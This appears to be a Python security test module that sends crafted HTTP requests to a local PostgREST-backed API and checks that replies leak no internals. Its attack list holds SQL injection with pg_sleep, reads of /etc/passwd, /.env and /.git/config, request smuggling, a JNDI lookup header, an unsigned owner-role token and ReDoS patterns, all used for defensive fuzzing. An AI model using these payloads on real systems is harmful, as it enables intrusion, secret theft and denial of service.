"""Hostile requests: what nobody sends by mistake. A list of attacks, and strategies that make more of the kind."""

from __future__ import annotations

import csv
import http.client
import io
import json
import re
import socket
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote, unquote

from hypothesis import strategies as st

API = "/api/v1/"
# What no answer may tell: relations beside `api`, catalogs, roles, PostgREST, versions, files, SQL.
INTERNALS = re.compile(
    r"postgrest|postgresql|\bpg_\w+|pgsql|schema cache|\b(?:agg|raw|staging|legacy|api|public)\.\w+|"
    r"spindle_(?:owner|admin)|authenticator|web_anon|plant_(?:owner|reader)|nginx/|\b\d+\.\d+\.\d+\b|"
    r"/(?:usr|etc|var|home|work|tmp|root)/|\bselect .* from\b|canceling statement|hasql",
    re.IGNORECASE,
)


@dataclass(frozen=True)
class Hostile:
    """A request as bytes go over the wire: nothing is encoded or added but Host and Connection."""

    target: str
    headers: tuple[tuple[str, str], ...] = ()
    method: str = "GET"
    body: str = ""
    version: str = "HTTP/1.1"

    def wire(self) -> bytes:
        lines = [f"{self.method} {self.target} {self.version}", "Host: 127.0.0.1", "Connection: close"]
        lines += [f"{name}: {value}" for name, value in self.headers]
        return "\r\n".join([*lines, "", self.body]).encode("latin-1")

    def says(self, text: str) -> bool:
        """Whether the request itself has this text: an error that repeats it tells nothing new."""
        own = " ".join([self.target, *(value for _, value in self.headers)])
        return any(text.lower() in form.lower() for form in (own, unquote(own), unquote(own.replace("+", " "))))


@dataclass
class Reply:
    status: int
    headers: http.client.HTTPMessage
    body: bytes
    faults: list[str] = field(default_factory=list)


def send(port: int, request: Hostile, timeout: float = 40) -> Reply:
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as connection:
        connection.sendall(request.wire())
        answer = http.client.HTTPResponse(connection, method=request.method)
        answer.begin()
        return Reply(answer.status, answer.headers, answer.read())


def faults(request: Hostile, reply: Reply) -> list[str]:
    """What is wrong with an answer; an ended statement's 504 is right."""
    text = reply.body.decode("utf-8", errors="replace")
    kind = (reply.headers["Content-Type"] or "").partition(";")[0]
    found = []
    if reply.status >= 500 and not (reply.status == 504 and '"GW504"' in text):
        found.append(f"status {reply.status}: {text[:200]}")
    if request.method != "HEAD" and reply.status not in (204, 304):
        found += _malformed(kind, text, error=reply.status >= 400)
    # the description and the pages may say what Spindle is made of
    described = reply.status == 200 and (kind == "text/html" or '"swagger"' in text[:100])
    if not described:
        found += [f"tells {hit.group(0)!r}" for hit in INTERNALS.finditer(text) if _tells(request, reply, hit.group(0))]
    if re.search(r"postgrest|/\d", reply.headers["Server"] or "", re.IGNORECASE):
        found.append(f"Server: {reply.headers['Server']}")
    return found


def _tells(request: Hostile, reply: Reply, hit: str) -> bool:
    # rows hold texts and numbers of the plant, which may look like a version
    return not request.says(hit) and not (reply.status < 400 and re.fullmatch(r"[\d.]+", hit))


def _malformed(kind: str, text: str, *, error: bool) -> list[str]:
    try:
        if kind.endswith("json"):
            parsed = json.loads(text)
            if error and not (isinstance(parsed, dict) and parsed.get("code") and parsed.get("message")):
                return [f"an error without code and message: {text[:200]}"]
        elif kind == "text/csv" and not error:
            widths = {len(row) for row in csv.reader(io.StringIO(text))}
            return [] if len(widths) <= 1 else [f"CSV with rows of {widths} fields"]
        elif error or kind != "text/html":
            return [f"{kind or 'no type'} for {text[:100]!r}"]
    except ValueError as problem:
        return [f"{kind} that is none, {problem}: {text[:100]!r}"]
    return []


# --- attacks that are known ------------------------------------------------------------------------------


def known_attacks() -> list[Hostile]:
    queries = [
        # embedded resources, aggregates, functions, other relations
        "temperatures?select=*,machines(*)", "temperatures?select=*,sensors!inner(*)", "machines?select=...sensors(*)",
        "machines?select=m:sensors(machines(sensors(*)))", "machines?select=count()", "temperatures?select=avg_value.sum()",
        "temperatures?select=machine,min_value.min(),max_value.max()", "machines?sensors.machine=eq.x",
        "machines?select=sensors(*)&sensors.order=machine", "machines?order=sensors(label)",
        "rpc/version", "rpc/pg_sleep?seconds=100", "rpc/pg_read_file?filename=/etc/passwd", "rpc/", "rpc", "rpc/../machines",
        "rpc/current_setting?setting_name=data_directory", "%72pc/version", "rpc%2fversion", "/rpc/version",
        "pg_catalog.pg_class", "pg_class", "agg.sensor_stats", "sensor_stats", "api.machines", "raw.sources", "refresh_runs",
        "information_schema.tables", "\"machines\"", "machines;select%201", "machines--", "machines'", "machines%22",
        # columns that tables have and views must not
        *(f"machines?select={name}" for name in ("ctid", "xmin", "tableoid", "oid", "machines", "*,*", "", "(", "a:b:c")),
        # casts
        *(f"machine_program?select=program::{kind}&limit=5" for kind in (
            "regclass", "REGCLASS", "regproc", "regtype", "regrole", "regnamespace", "%72egclass", "oid", "xml", "money",
            "bytea", "tsvector", "aclitem", "record", "machines", "cstring", "int)+as+x,(select+1", "pg_catalog.regclass",
            "\"regclass\"", "regclass[]", "text::regclass", "int;select+pg_sleep(9)", "numeric(1)", "bit", "inet",
        )),
        *(f"machines?select=machine::{kind}" for kind in ("int", "date", "json", "jsonb", "uuid", "name", "point", "bool")),
        "machine_program?select=program:%3a%3aregclass", "machine_program?select=program%3A%3Aregclass",
        "machine_program?select=program:: regclass".replace(" ", "%20"), "machine_program?select=x:program::regclass",
        # JSON operators
        "machines?select=machine->a", "machines?select=machine->>a->b", "machines?machine->>a=eq.b",
        f"machines?select=machine{'->a' * 4000}", "machines?order=machine->a.desc",
        # every operator with values of the wrong kind
        *(f"{column}={operator}.{value}" for column in ("temperatures?day", "temperatures?readings_count", "machines?machine",
          "machine_changes?ts", "temperatures?min_value", "data_status?refresh_ok")
          for operator in ("eq", "lt", "in", "is", "like", "ilike", "match", "imatch", "fts", "plfts", "phfts", "wfts", "cs",
                           "cd", "ov", "sl", "sr", "nxr", "nxl", "adj", "isdistinct", "not.eq", "eq(any)", "like(all)", "xx")
          for value in ("x", "{a,b}", "(a,b)")),
        # expensive
        f"temperatures?limit=1&or={'(or' * 4000}(machine.eq.a){')' * 4000}",
        f"temperatures?limit=1&and={'(not.or' * 1500}(machine.eq.a){')' * 1500}",
        f"temperatures?machine=in.({','.join(['a'] * 7000)})", f"temperatures?machine=in.({','.join(['x' * 900] * 16)})",
        f"temperatures?limit=1&select={','.join(['*'] * 8000)}", f"temperatures?limit=1&select={','.join(['dt'] * 5000)}",
        f"temperatures?limit=1&order={','.join(['dt'] * 5000)}", f"temperatures?{'&'.join(['dt=gt.1999-01-01'] * 900)}",
        f"alerts_detail?or=({','.join(f'alarm_description.match.a{n}x*y' for n in range(450))})",
        f"alerts_detail?or=({','.join(f'alarm_description.imatch.({n}.*)%2B$' for n in range(400))})",
        "alerts_detail?alarm_description=match.(.*)(.*)(.*)(.*)(.*)%5C1%5C2%5C3%5C4%5C5$",
        "alerts_detail?alarm_description=match.(a%2B)%2B$", "alerts_detail?alarm_description=match.(a*)*b",
        "alerts_detail?alarm_description=match.((((a{1,100}){1,100}){1,100}){1,100}", "alerts_detail?alarm_code=match.((((((",
        f"alerts_detail?alarm_description=like.{'*a' * 4000}", f"alerts_detail?alarm_description=ilike.{'_%25' * 3000}",
        f"alerts_detail?alarm_description=fts.{'%26'.join(['a'] * 3000)}", "alerts_detail?alarm_description=fts(x).a",
        "alerts_detail?alarm_description=fts.a%26", "alerts_detail?alarm_description=wfts(english).a",
        # numbers and times out of range
        *(f"temperatures?{key}={value}" for key in ("limit", "offset") for value in (
            "-1", "0", "1.5", "x", "99999999999999999999", "2147483648", "-9223372036854775809", "1e3", "0x10", "", "%00", "null")),
        *(f"temperatures?readings_count=eq.{value}" for value in (
            "9" * 400, "-0", "1e400", "NaN", "Infinity", "0x1f", "1_000", "%2B1", "%20", "")),
        *(f"temperatures?min_value=gt.{value}" for value in ("1e400", "NaN", "-Infinity", "9" * 5000)),
        *(f"temperatures?{column}=gte.{value}" for column in ("day", "dt") for value in (
            "infinity", "-infinity", "epoch", "now", "today", "allballs", "0000-00-00", "2026-02-30", "294277-01-01",
            "5874898-01-01", "4713-01-01 BC".replace(" ", "%20"), "2026-01-01T25:00", "2026-01-01T00:00+99:99", "J0", "x")),
        "machine_changes?ts=gte.2026-01-01T00:00:00+01:00", "machine_changes?ts=gte.2026-01-01%20Mars/Phobos",
        # grammar
        *(f"temperatures?{rest}" for rest in (
            "or=(", "or=()", "or=(a)", "or=(machine.eq.a,", "and=or", "not.or=(machine.eq.a)", "not.and=()", "order=",
            "order=dt.sideways", "order=dt.desc.nullsfirst,machine.asc.nullslast", "order=,", "order=1", "select=a,,b", "=",
            "&&&", "machine", "machine=", "machine=eq", "machine=.", "machine=eq.a.b.c", "machine=not.not.eq.a", "?x=y", "#x",
            "columns=machine", "on_conflict=machine", "columns=\"", "machine=in.", "machine=in.(", "machine=in.()",
            "machine=in.(\"a", "machine=in.(\"\\\"\")", "machine=eq.a;drop%20table%20x", "machine=eq.'%20or%20'1'='1",
            "machine=eq.%27%3B%20select%20pg_sleep(10)%3B--", "machine=eq.$1", "machine=eq.%s", "machine=eq.{{7*7}}",
            "limit=1;select=sensors(*)", "s%65lect=sensors(*)", "%73elect=machine", "SELECT=machine", "machine=EQ.a",
            "select=machine&select=dt", "limit=1&limit=2", "order=dt&order=machine", "offset=1&offset=2", "__proto__=eq.1")),
        # bytes
        *(f"machines?machine=eq.{text}" for text in (
            "%00", "%ff", "%ff%fe", "%c0%af", "%ed%a0%80", "%f4%90%80%80", "%e2%82", "%C3%28", "%", "%z", "%1", "\xff", "\xc3\xb1",
            "%F0%9F%98%80", "%EF%BF%BE", "%E2%80%AE", "%0d%0aX-Injected:%20yes", "%0a", "%09", "%7f", "a%00b", "%u0041", "%25%30%30")),
        "machines?%ff=eq.1", "machines?%00=eq.1", "machines?select=%ff", "machines?order=%ff", "%ff", "%00", "machines%00",
        "machines%ff", "machines?select=%F0%9F%98%80", "data_status?%ff", "data_status?machine=eq.x", "data_status?limit=0",
        "data_status?machine=in.(a,b)", "data_status?machine=not.is.null", "data_status?select=*,machines(*)",
        # what the old dialect calls parameters
        *(f"temperatures?target_date={value}" for value in ("x", "2026-02-30", "%ff", "'", "9" * 500, "", "%00", "2026-03-30;")),
        "temperatures?target_date=2026-03-30&day=eq.2026-03-30", "machine_changes?start=x&end=y", "machine_changes?start=2026-01-01",
    ]  # fmt: skip
    paths = [
        "/", "//", "/..", "/../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/..%2f..%2fetc%2fpasswd", "/.git/config", "/.env",
        "/.spindle/secrets.json", "/api/v1", "/api/v1//machines", "/api/v1/../v1/machines", "/api/v1/./machines", "/api//v1/machines",
        "/api/v1/%2e%2e/%2e%2e/health/probe", "/api/v1/machines/../../../gateway/error", "/api/v1/machines/", "/api/v1/machines/1",
        "/API/V1/machines", "/api/v1/Machines", "/api/v1/%6dachines", "/api/v1/machines%2f", "/api/v1/machines%3flimit=1",
        "/api/v1/machines%23", "/api/v1\\machines", "/api/v1/..;/machines", "/api/v1/machines/..;/x", "/health/probe",
        "/gateway/error", "/gateway/authorized", "/gateway/refused", "/gateway/failed", "/gateway/options", "/gateway/unknown",
        "/old_dialect/temperatures", "/health/live/../probe", "/nginx_status", "/metrics", "/admin", "/api/v2/machines",
        "http://evil.example/api/v1/machines", "http://127.0.0.1/health/live", "https://127.0.0.1:1/", "http://", "*", "machines",
        "/" + "a/" * 4000, "/api/v1/" + "x" * 10_000, "/api/v1/machines?" + "x" * 16_300, "/api/v1/machines?" + "x" * 40_000,
    ]  # fmt: skip
    headers = [
        *(("Accept", value) for value in (
            "application/vnd.pgrst.plan", "application/vnd.pgrst.plan+json; options=analyze|verbose|settings|buffers",
            "application/vnd.pgrst.plan+text; for=\"text/csv\"", "application/vnd.pgrst.object+json", "text/csv", "text/xml",
            "application/vnd.pgrst.array+json;nulls=stripped", "application/vnd.pgrst.object+json;nulls=stripped",
            "application/octet-stream", "application/geo+json", "text/plain", "application/openapi+json", "x", "", "*/*;q=x",
            "\xff\xfe", "a/b," * 1500, "text/csv;header=absent", "application/json;charset=utf-7")),
        *(("Accept-Profile", value) for value in ("agg", "raw", "legacy", "pg_catalog", "information_schema", "\xff", "api,agg", "gateway")),
        ("Content-Profile", "agg"),
        *(("Prefer", value) for value in (
            "tx=rollback", "tx=commit", "params=single-object", "handling=strict, x=y", "handling=lenient, x=y", "count=exact",
            "count=planned", "count=estimated", "count=many", "timezone=Mars", "timezone=America/New_York", "return=representation",
            "handling=strict, timezone=Mars", "max-affected=1, handling=strict", "resolution=merge-duplicates", "missing=default",
            "count=exact, count=planned", "\xff", "timezone=" + "x" * 5000)),
        *(("Range", value) for value in ("0-0", "5-1", "-5", "-1-3", "99999999-", "9" * 40 + "-", "bytes=0-5", "x", "0-0,2-3", "\xff")),
        *(("Authorization", value) for value in ("Bearer x", "Bearer eyJhbGciOiJub25lIn0.eyJyb2xlIjoic3BpbmRsZV9vd25lciJ9.",
                                                "Basic eDp5", "Bearer", "\xff", "Bearer " + "." * 8000)),
        ("Range-Unit", "x"), ("X-HTTP-Method-Override", "DELETE"), ("X-Forwarded-For", "1.2.3.4, \xff"), ("X-Forwarded-Host", "evil"),
        ("X-Original-URL", "/gateway/error"), ("X-Rewrite-URL", "/health/probe"), ("Forwarded", "for=x"), ("Cookie", "\xff"),
        ("Content-Type", "\xff"), ("Origin", "\xff"), ("Origin", "x\" bad"), ("X-Request-Id", "a\"b\\"), ("Host", "evil.example"),
        ("If-None-Match", "*"), ("If-Modified-Since", "x"), ("Transfer-Encoding", "x"), ("Transfer-Encoding", "chunked, identity"),
        ("Content-Length", "-1"), ("Content-Length", "99999999999999999999"), ("Expect", "100-continue"), ("Upgrade", "h2c"),
        ("Connection", "close, X-Request-Id"), ("TE", "trailers"), ("Accept-Encoding", "\xff"), ("X-Long", "x" * 17_000),
        ("User-Agent", "${jndi:ldap://evil}"), ("Referer", "\xff"), ("Max-Forwards", "0"),
    ]  # fmt: skip
    return [
        *(Hostile(API + query) for query in queries),
        *(Hostile(path) for path in paths),
        *(Hostile(f"{API}machines?limit=1", (header,)) for header in headers),
        *(Hostile(f"{API}data_status", (header,)) for header in headers if header[0] in ("Accept", "Prefer", "Range")),
        *(Hostile(f"{API}machines", method=method) for method in (
            "POST", "PUT", "PATCH", "DELETE", "TRACE", "CONNECT", "PROPFIND", "get", "X", "GETX", "SEARCH")),
        *(Hostile(f"{API}rpc/version", method=method) for method in ("POST", "HEAD", "OPTIONS")),
        Hostile(f"{API}machines", (("Content-Length", "13"),), body='{"machine":1}'),
        Hostile(f"{API}machines", (("Transfer-Encoding", "chunked"),), body="5\r\nhello\r\n0\r\n\r\n"),
        Hostile(f"{API}machines", (("Transfer-Encoding", "chunked"),), body="ffffffffffffffff\r\n"),
        Hostile(f"{API}machines", (("Content-Length", "5"), ("Transfer-Encoding", "chunked")),
                body="0\r\n\r\nGET /gateway/error HTTP/1.1\r\nHost: x\r\n\r\n"),
        Hostile(f"{API}machines", (("Content-Length", "5"), ("Content-Length", "6")), body="123456"),
        Hostile(f"{API}machines", (("Content-Length", "20000"),), body="x" * 20_000),
        Hostile(f"{API}machines", version="HTTP/1.0"), Hostile(f"{API}machines", version="HTTP/9.9"),
        Hostile(f"{API}machines", version="HTTP/1.1 x"),
    ]  # fmt: skip


# --- and more of the kind --------------------------------------------------------------------------------


def requests_over(description: dict[str, Any]) -> st.SearchStrategy[Hostile]:
    """Requests over what the OpenAPI description names: plausible parts in implausible combinations."""
    columns = {name: sorted(view["properties"]) for name, view in description["definitions"].items()}
    word = st.sampled_from(
        ["eq", "gte", "in", "like", "ilike", "match", "fts", "is", "cs", "not", "or", "and", "select", "order", "limit", "offset",
         "null", "true", "desc", "nullslast", "count()", "sum()", "*", "::text", "::int", "::regclass", "->", "->>", "(", ")", "{", "}",
         "any", "all", ".", ",", ":", "!", "=", "&", "'", '"', "\\", ";", "--", "/*", "%", "$1", "0", "-1", "1e99", "NaN", "infinity",
         "2026-03-30", "now", "branosera", "pg_class", "agg.alerts", "select 1", "\x00", "\x7f", "ñ", "😀", "\u202e", " ", "+"]
    )  # fmt: skip
    value = st.one_of(
        st.lists(word, max_size=6).map("".join),
        st.text(max_size=12),
        st.integers().map(str),
        st.floats().map(str),
        st.datetimes().map(str),
    )
    operator = st.sampled_from(
        ["eq", "neq", "gt", "lte", "like", "ilike", "match", "imatch", "in", "is", "isdistinct", "fts", "plfts", "wfts", "cs", "cd",
         "ov", "sl", "adj", "not.eq", "not.in", "eq(any)", "like(all)", "fts(english)", "bogus", ""]
    )  # fmt: skip
    encode = st.sampled_from([quote, lambda text: quote(text, safe="(),.*:{}'\"->;!=&"), _encode_all, _break])

    @st.composite
    def one(draw: st.DrawFn) -> Hostile:
        endpoint = draw(st.sampled_from([*columns, *columns, "rpc/version", "nothing", ""]))
        known = st.sampled_from([*columns.get(endpoint, ["machine"]), "machine", "nothing"])
        condition = st.builds(lambda c, o, v: f"{c}.{o}.{v}", known, operator, value)
        tree = st.recursive(
            condition,
            lambda parts: st.builds(
                lambda kind, inside: f"{kind}({','.join(inside)})",
                st.sampled_from(["or", "and", "not.or", "not.and"]),
                st.lists(parts, max_size=4),
            ),
            max_leaves=12,
        )
        listed = st.lists(st.one_of(known, value), max_size=5).map(",".join)
        parameter = st.one_of(
            st.tuples(known, st.builds("{}.{}".format, operator, value)),
            st.tuples(known, value),
            st.tuples(
                st.sampled_from(["or", "and", "not.or"]), st.lists(tree, max_size=3).map(lambda t: f"({','.join(t)})")
            ),
            st.tuples(st.sampled_from(["select", "order", "columns"]), listed),
            st.tuples(st.sampled_from(["limit", "offset"]), value),
            st.tuples(st.sampled_from(["target_date", "sensor_name", "start", "end"]), value),
            st.tuples(value, value),
        )
        pairs = draw(st.lists(parameter, max_size=5))
        encoded = draw(encode)
        query = "&".join(f"{encoded(name)}={encoded(text)}" for name, text in pairs)
        header = st.tuples(
            st.sampled_from(["Accept", "Prefer", "Range", "Accept-Profile", "Authorization", "Origin", "X-Any"]),
            st.text(st.characters(min_codepoint=32, max_codepoint=255, exclude_characters="\x7f"), max_size=20),
        )
        # an answer of all rows of a view is no attack: the check of it would only take time
        limited = f"{query}{'&' if query else ''}limit=20" if draw(st.integers(0, 9)) else query
        return Hostile(
            f"{API}{endpoint}?{limited}",
            tuple(draw(st.lists(header, max_size=2))),
            draw(st.sampled_from(["GET", "GET", "GET", "GET", "HEAD", "OPTIONS", "POST"])),
        )

    return one()


def _encode_all(text: str) -> str:
    return "".join(f"%{byte:02x}" for byte in text.encode())


def _break(text: str) -> str:
    """Escapes that are no UTF-8 once in a while."""
    return quote(text).replace("%C3", "%FF").replace("%F0", "%80") + ("%e2%28" if len(text) % 3 == 0 else "")
